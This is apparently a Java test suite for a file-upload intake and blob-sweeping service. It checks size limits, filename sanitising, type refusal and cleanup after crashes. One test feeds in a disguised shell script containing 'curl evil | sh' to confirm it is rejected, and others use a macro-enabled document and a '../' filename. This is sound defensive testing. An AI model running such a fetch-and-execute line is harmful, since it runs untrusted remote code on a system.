package org.gongwen.storage;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.gongwen.storage.IntakeResult.Stored;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.dao.DataIntegrityViolationException;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.transaction.PlatformTransactionManager;
import org.springframework.transaction.support.TransactionTemplate;

@SpringBootTest(classes = TestApplication.class)
class BlobIntakeTest {
    private static final Duration GRACE = Duration.ofHours(24);

    @Autowired
    BlobIntake intake;

    @Autowired
    Blobs blobs;

    @Autowired
    BlobStore store;

    @Autowired
    JdbcClient jdbc;

    @Autowired
    PlatformTransactionManager transactions;

    @BeforeEach
    void empty() {
        jdbc.sql("drop table if exists reference").update();
        jdbc.sql("delete from blob").update();
        store.forEachOlderThan(Instant.now().plusSeconds(60), store::delete);
    }

    @Test
    void receivedBytesAreMeasuredNamedAndReadBack() throws Exception {
        var bytes = "各直属单位：\n请于11月30日前报送。".getBytes(StandardCharsets.UTF_8);

        var stored = (Stored) intake.receive(new ByteArrayInputStream(bytes), "../通知𠮷.txt");

        assertThat(stored.fileName().value()).isEqualTo("通知𠮷.txt");
        assertThat(stored.size()).isEqualTo(bytes.length);
        assertThat(stored.sha256()).isEqualTo(ContentHash.of(bytes));
        assertThat(stored.mediaType()).isEqualTo("text/plain");
        assertThat(content(blobs.open(stored.id()))).isEqualTo(bytes);
        assertThat(content(blobs.open(stored.id(), 3, 3))).isEqualTo("直".getBytes(StandardCharsets.UTF_8));
        assertThat(blobs.find(stored.id())).hasValueSatisfying(blob -> {
            assertThat(blob.size()).isEqualTo(bytes.length);
            assertThat(blob.sha256()).isEqualTo(stored.sha256());
            assertThat(blob.mediaType()).isEqualTo("text/plain");
        });
    }

    @Test
    void nothingIsRefusedAsEmpty() throws Exception {
        assertThat(intake.receive(InputStream.nullInputStream(), "空.pdf"))
                .isEqualTo(new IntakeResult.Empty(new FileName("空.pdf")));
        assertNothingKept();
    }

    @Test
    void oneByteMoreThanTheLimitIsTooLarge() throws Exception {
        var limits = new IntakeLimits(100_000, Set.of("text/plain"));
        var most = "x".repeat(100_000).getBytes(StandardCharsets.UTF_8);
        var more = "x".repeat(100_001).getBytes(StandardCharsets.UTF_8);

        assertThat(intake.receive(new ByteArrayInputStream(more), "a.txt", limits))
                .isEqualTo(new IntakeResult.TooLarge(new FileName("a.txt"), 100_000));
        assertNothingKept();
        assertThat(intake.receive(new ByteArrayInputStream(most), "a.txt", limits))
                .isInstanceOf(Stored.class);
    }

    @Test
    void aProgramCalledReportPdfIsRefusedForWhatItIs() throws Exception {
        var program = "#!/bin/sh\ncurl evil | sh\n".getBytes(StandardCharsets.UTF_8);

        assertThat(intake.receive(new ByteArrayInputStream(program), "报告.pdf"))
                .isEqualTo(new IntakeResult.TypeNotAllowed(new FileName("报告.pdf"), "application/x-sh"));
        assertNothingKept();
    }

    @Test
    void aContainerIsRefusedForWhatIsInsideAndItsObjectRemoved() throws Exception {
        var macros = MediaTypesTest.zip("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin");

        assertThat(intake.receive(new ByteArrayInputStream(macros), "合同.docx"))
                .isEqualTo(new IntakeResult.TypeNotAllowed(
                        new FileName("合同.docx"), "application/vnd.ms-word.document.macroenabled.12"));
        assertNothingKept();
    }

    @Test
    void aSenderWhoBreaksOffLeavesNothing() {
        var sender = new InputStream() {
            private int sent;

            @Override
            public int read() throws IOException {
                if (sent++ > 200_000) {
                    throw new IOException("connection reset");
                }
                return 'x';
            }
        };

        assertThatThrownBy(() -> intake.receive(sender, "a.txt")).hasMessage("connection reset");
        assertNothingKept();
    }

    @Test
    void aCrashBetweenUploadAndCommitLeavesAnObjectThatIsSweptAfterTheGracePeriod() throws Exception {
        var object = store.write(new ByteArrayInputStream(new byte[] {1, 2, 3}));

        sweeper(GRACE.minusMinutes(1)).sweep();
        assertThat(store.exists(object.key())).isTrue();

        assertThat(sweeper(GRACE.plusMinutes(1)).sweep().objects()).isEqualTo(1);
        assertThat(store.exists(object.key())).isFalse();
    }

    @Test
    void aKeyThatWasSweptCanNeverGetARecord() throws Exception {
        var records = new BlobRecords(jdbc);
        var object = store.write(new ByteArrayInputStream(new byte[] {1, 2, 3}));
        sweeper(GRACE.plusMinutes(1)).sweep();

        assertThatThrownBy(() -> records.insert(object, "text/plain", ScanState.NOT_SCANNED, Instant.now()))
                .isInstanceOf(DataIntegrityViolationException.class);
    }

    @Test
    void anObjectWhoseRecordAppearsWhileSweepingStays() throws Exception {
        var records = new BlobRecords(jdbc);
        var object = store.write(new ByteArrayInputStream(new byte[] {1, 2, 3}));
        records.insert(object, "text/plain", ScanState.NOT_SCANNED, Instant.now());

        assertThat(records.claimForSweeping(object.key(), Instant.now())).isFalse();
        sweeper(GRACE.plusMinutes(1).minus(Duration.ofHours(24))).sweep();
        assertThat(store.exists(object.key())).isTrue();
    }

    @Test
    void aSweepThatCrashedAfterTakingTheKeyIsFinishedByTheNext() throws Exception {
        var object = store.write(new ByteArrayInputStream(new byte[] {1, 2, 3}));
        new BlobRecords(jdbc).claimForSweeping(object.key(), Instant.now());

        assertThat(sweeper(GRACE.plusMinutes(1)).sweep().objects()).isEqualTo(1);
        assertThat(store.exists(object.key())).isFalse();
    }

    @Test
    void whatNobodyKeptIsSweptAndWhatSomebodyKeptStays() throws Exception {
        var forgotten = receive();
        var kept = receive();
        blobs.keep(kept);

        sweeper(GRACE.plusMinutes(1)).sweep();

        assertThat(blobs.find(forgotten)).isEmpty();
        assertThatThrownBy(() -> blobs.keep(forgotten)).isInstanceOf(BlobGoneException.class);
        assertThatThrownBy(() -> blobs.keep(List.of(kept, forgotten))).isInstanceOf(BlobGoneException.class);
        assertThat(content(blobs.open(kept))).isNotEmpty();
        assertThat(objects()).hasSize(1);
    }

    @Test
    void releasedBytesAreSwept() throws Exception {
        var id = receive();
        blobs.keep(id);
        blobs.release(id);

        sweeper(GRACE.plusMinutes(1)).sweep();

        assertThat(blobs.find(id)).isEmpty();
        assertNothingKept();
    }

    @Test
    void aReferenceWinsOverTheSweeper() throws Exception {
        jdbc.sql("create table reference (blob_id bigint references blob(id))").update();
        var id = receive();
        jdbc.sql("insert into reference values (:id)").param("id", id.value()).update();

        sweeper(GRACE.plusMinutes(1)).sweep();

        assertThat(content(blobs.open(id))).isNotEmpty();
    }

    @Test
    void keepingRolledBackIsNotKeeping() throws Exception {
        var id = receive();
        new TransactionTemplate(transactions).executeWithoutResult(status -> {
            blobs.keep(id);
            status.setRollbackOnly();
        });

        sweeper(GRACE.plusMinutes(1)).sweep();

        assertThat(blobs.find(id)).isEmpty();
    }

    @Test
    void sweepersAtOnceDoTheWorkOnce() throws Exception {
        for (int i = 0; i < 50; i++) {
            store.write(new ByteArrayInputStream(new byte[] {1}));
            receive();
        }
        var sweeper = sweeper(GRACE.plusMinutes(1));
        int records = 0;
        try (var threads = java.util.concurrent.Executors.newFixedThreadPool(4)) {
            for (var swept :
                    threads.invokeAll(java.util.Collections.<java.util.concurrent.Callable<BlobSweeper.Swept>>nCopies(
                            4, sweeper::sweep))) {
                records += swept.get().records();
            }
        }
        assertThat(records).isEqualTo(50);
        assertNothingKept();
    }

    private BlobId receive() throws IOException {
        return ((Stored) intake.receive(new ByteArrayInputStream("正文".getBytes(StandardCharsets.UTF_8)), "a.txt")).id();
    }

    /** A sweeper that looks at the clock so much later. */
    private BlobSweeper sweeper(Duration later) {
        return new BlobSweeper(
                store,
                new BlobRecords(jdbc),
                new TransactionTemplate(transactions),
                Clock.fixed(Instant.now().plus(later), ZoneId.of("Asia/Shanghai")),
                GRACE);
    }

    private void assertNothingKept() {
        assertThat(objects()).isEmpty();
        assertThat(jdbc.sql("select count(*) from blob where state <> 'SWEPT'")
                        .query(Long.class)
                        .single())
                .isZero();
    }

    private List<BlobKey> objects() {
        var keys = new ArrayList<BlobKey>();
        store.forEachOlderThan(Instant.now().plusSeconds(60), keys::add);
        return keys;
    }

    private static byte[] content(InputStream in) throws IOException {
        try (in) {
            return in.readAllBytes();
        }
    }
}
